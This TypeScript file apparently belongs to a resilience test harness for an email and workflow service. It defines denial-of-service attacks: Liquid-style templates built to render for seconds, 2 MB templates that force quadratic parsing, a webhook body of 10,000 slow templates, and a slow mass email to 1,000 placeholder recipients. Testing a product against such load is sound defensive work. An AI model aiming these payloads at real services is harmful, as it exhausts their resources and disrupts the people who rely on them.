import { newId } from '@postrider/core/base/lib';
import type { Attacker } from './attacker.ts';

export interface Attack {
  name: string;
  /** requests that are open at the same time, and the pause of each after an answer */
  lanes: number;
  pauseMs: number;
  /** Prepares what the attack needs. @returns the attack itself, which is started again until its time is over */
  prepare(attacker: Attacker): Promise<() => Promise<unknown>>;
}

/** Renders for as long as a limit allows: a million rounds of a condition with this many terms. */
export const slowTemplate = (terms: number): string =>
  `{% for i in (1..1000000) %}{% if ${'1 and '.repeat(terms)}1 %}{% endif %}{% endfor %}`;
/** Outputs with blanks in their middle, on which a careless parser spends quadratic time. */
const blankTemplate = `{{ a${' '.repeat(49_900)}b }}`.repeat(40);

const manyStrings = 10_000;
const manyRecipients = 1_000;
const batchSize = 20;

export const attacks: readonly Attack[] = [
  {
    name: 'previews of templates that render for seconds, 20 in a request',
    lanes: 4,
    pauseMs: 1_000,
    async prepare(attacker) {
      const draft = { subject: slowTemplate(100), body: slowTemplate(200), type: 'TRANSACTIONAL' };
      return () => attacker.batch('sending.previewContent', batchSize, draft);
    },
  },
  {
    name: 'templates of 2 MB that take quadratic time to parse',
    lanes: 4,
    pauseMs: 5_000,
    async prepare(attacker) {
      return () =>
        attacker.request('/templates', {
          name: `Blanks ${newId()}`,
          type: 'TRANSACTIONAL',
          from: attacker.from,
          subject: 'Blanks',
          body: blankTemplate,
        });
    },
  },
  {
    name: 'a webhook body of 10,000 slow templates',
    lanes: 4,
    pauseMs: 1_000,
    prepare: prepareWebhook,
  },
  {
    name: 'email to 1,000 recipients with a template that renders for seconds',
    lanes: 1,
    pauseMs: 5_000,
    async prepare(attacker) {
      let round = 0;
      return () => {
        round += 1;
        return attacker.request('/v1/send', {
          to: Array.from({ length: manyRecipients }, (_, index) => `victim${round}-${index}@people.test`),
          from: attacker.from,
          subject: 'Slow',
          body: slowTemplate(200),
        });
      };
    },
  },
];

/** A workflow with such a step, and an execution of it per round. */
async function prepareWebhook(attacker: Attacker): Promise<() => Promise<unknown>> {
  const event = 'attack';
  const made = await attacker.request('/workflows', { name: 'Attack', eventName: event });
  const { id, steps = [] } = JSON.parse(made.body || '{}') as { id?: string; steps?: { id: string }[] };
  const step = await attacker.request(`/workflows/${id}/steps`, {
    type: 'WEBHOOK',
    name: 'Attack',
    config: { url: 'https://example.com/', body: Array(manyStrings).fill(slowTemplate(50)) },
    position: { x: 0, y: 0 },
    autoConnect: false,
  });
  const { id: stepId } = JSON.parse(step.body || '{}') as { id?: string };
  // A product that refuses such a step is not open to this attack.
  if (stepId === undefined) return async () => undefined;
  await attacker.request(`/workflows/${id}/transitions`, { fromStepId: steps[0]?.id, toStepId: stepId });
  await attacker.request(`/workflows/${id}`, { enabled: true }, 'PATCH');
  let round = 0;
  return () => {
    round += 1;
    return attacker.track({ email: `target${round}@people.test`, event });
  };
}
